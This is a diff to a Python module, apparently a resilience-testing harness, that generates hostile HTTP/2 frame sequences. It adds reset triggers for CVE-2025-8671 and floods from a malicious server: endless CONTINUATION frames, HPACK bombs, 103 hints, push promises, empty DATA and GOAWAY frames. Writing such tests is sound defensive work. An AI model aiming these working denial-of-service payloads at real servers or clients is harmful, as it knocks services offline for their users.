@@ -1,17 +1,21 @@
-"""What a hostile HTTP/2 peer sends, where it is the one that asks."""
+"""What a hostile HTTP/2 peer sends, be it the one that asks or the one that answers."""
 
 from __future__ import annotations
 
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Sequence
 
 from hpack import Encoder
 from hyperframe.frame import (
     ContinuationFrame,
     DataFrame,
+    ExtensionFrame,
     Frame,
+    GoAwayFrame,
     HeadersFrame,
     PingFrame,
+    PriorityFrame,
+    PushPromiseFrame,
     RstStreamFrame,
     SettingsFrame,
     WindowUpdateFrame,
@@ -35,10 +39,49 @@ def rapid_reset() -> Iterator[Frame]:
 
 def made_you_reset() -> Iterator[Frame]:
     """CVE-2025-8671: streams that the server itself must reset, for a window update of nothing."""
-    block = Encoder().encode(_POST)
+    return _opened(lambda stream: _Raw(WindowUpdateFrame(stream, 1).serialize()[:-4] + bytes(4)))
+
+
+def overflowing_windows() -> Iterator[Frame]:
+    """The same by a window beyond 2^31-1."""
+    return _opened(lambda stream: WindowUpdateFrame(stream, (1 << 31) - 1))
+
+
+def headers_after_the_end() -> Iterator[Frame]:
+    """The same by a request that goes on after its end."""
+    block = Encoder().encode(_HEAD)
+    return _opened(lambda stream: HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]), end=True)
+
+
+def data_after_the_end() -> Iterator[Frame]:
+    """The same by a body after the end."""
+    return _opened(lambda stream: DataFrame(stream, b"x", flags=["END_STREAM"]), end=True)
+
+
+def short_priorities() -> Iterator[Frame]:
+    """The same by a PRIORITY of another length than five."""
+    return _opened(lambda stream: _Raw(b"\0\0\4\2\0" + stream.to_bytes(4, "big") + bytes(4)))
+
+
+def streams_on_themselves() -> Iterator[Frame]:
+    """The same by a stream that depends on itself."""
+    return _opened(lambda stream: PriorityFrame(stream, depends_on=stream))
+
+
+def longer_bodies() -> Iterator[Frame]:
+    """The same by a body that is longer than it said."""
+    more = [("content-length", "1")]
+    return _opened(lambda stream: DataFrame(stream, b"four", flags=["END_STREAM"]), more)
+
+
+def _opened(
+    then: Callable[[int], Frame], more: Sequence[tuple[str, str]] = (), *, end: bool = False
+) -> Iterator[Frame]:
+    block = Encoder().encode([*_POST, *more])
+    flags = ["END_HEADERS", "END_STREAM"] if end else ["END_HEADERS"]
     for stream in range(1, 20_001, 2):
-        yield HeadersFrame(stream, block, flags=["END_HEADERS"])
-        yield _Raw(WindowUpdateFrame(stream, 1).serialize()[:-4] + bytes(4))
+        yield HeadersFrame(stream, block, flags=flags)
+        yield then(stream)
 
 
 def continuation_flood() -> Iterator[Frame]:
@@ -93,6 +136,94 @@ ATTACKS: dict[str, Callable[[], Iterator[Frame]]] = {
     "empty continuations": empty_continuations,
     "HPACK bomb": hpack_bomb,
     "empty data": empty_data,
+    "pings": pings,
+    "settings": settings,
+}
+
+TRIGGERS: dict[str, Callable[[], Iterator[Frame]]] = {
+    "a window update of nothing": made_you_reset,
+    "windows that overflow": overflowing_windows,
+    "headers after the end": headers_after_the_end,
+    "data after the end": data_after_the_end,
+    "priorities that are too short": short_priorities,
+    "streams that depend on themselves": streams_on_themselves,
+    "bodies that are too long": longer_bodies,
+}
+"""Whatever makes a server reset a stream by itself (CVE-2025-8671)."""
+
+
+# Of one who answers; stream 1 is asked for.
+
+_OK = [(":status", "200")]
+
+
+def answers_without_an_end() -> Iterator[Frame]:
+    """RUSTSEC-2024-0332 the other way round."""
+    yield HeadersFrame(1, Encoder().encode(_OK))
+    part = Encoder().encode([("x-more", "x" * 15_000)], huffman=False)
+    for _ in range(20_000):
+        yield ContinuationFrame(1, part)
+
+
+def bombs_for_answers() -> Iterator[Frame]:
+    """CVE-2016-6581 the other way round, before the answer proper, again and again."""
+    encoder = Encoder()
+    first = encoder.encode([(":status", "103"), ("x-bomb", "x" * 4000)], huffman=False)
+    again = encoder.encode([("x-bomb", "x" * 4000)])
+    yield HeadersFrame(1, first, flags=["END_HEADERS"])
+    for _ in range(200):
+        yield HeadersFrame(1, encoder.encode([(":status", "103")]) + again * 12_000, flags=["END_HEADERS"])
+
+
+def early_hints() -> Iterator[Frame]:
+    """Informational answers without an end (RFC 9110, section 15.2)."""
+    encoder = Encoder()
+    for _ in range(100_000):
+        block = encoder.encode([(":status", "103"), ("link", "</x>; rel=preload")])
+        yield HeadersFrame(1, block, flags=["END_HEADERS"])
+
+
+def promises() -> Iterator[Frame]:
+    """Pushes, of which nobody wants any."""
+    block = Encoder().encode(_HEAD)
+    for stream in range(2, 20_002, 2):
+        yield PushPromiseFrame(1, stream, block, flags=["END_HEADERS"])
+
+
+def empty_answers() -> Iterator[Frame]:
+    """RUSTSEC-2026-0258 the other way round."""
+    yield HeadersFrame(1, Encoder().encode(_OK), flags=["END_HEADERS"])
+    for _ in range(100_000):
+        yield DataFrame(1, b"")
+
+
+def small_windows() -> Iterator[Frame]:
+    """Credit by single bytes."""
+    for _ in range(200_000):
+        yield WindowUpdateFrame(0, 1)
+
+
+def farewells() -> Iterator[Frame]:
+    """GOAWAY that never goes."""
+    for _ in range(100_000):
+        yield GoAwayFrame(0, last_stream_id=1)
+
+
+def unknown_frames() -> Iterator[Frame]:
+    """Kinds that must be ignored (RFC 9113, section 5.5)."""
+    for _ in range(100_000):
+        yield ExtensionFrame(0xF0, 0, flag_byte=0, body=b"nothing")
+
+
+ANSWERS: dict[str, Callable[[], Iterator[Frame]]] = {
+    "answers without an end": answers_without_an_end,
+    "HPACK bombs": bombs_for_answers,
+    "early hints": early_hints,
+    "promises": promises,
+    "empty answers": empty_answers,
+    "small windows": small_windows,
+    "farewells": farewells,
+    "unknown frames": unknown_frames,
     "pings": pings,
     "settings": settings,
 }
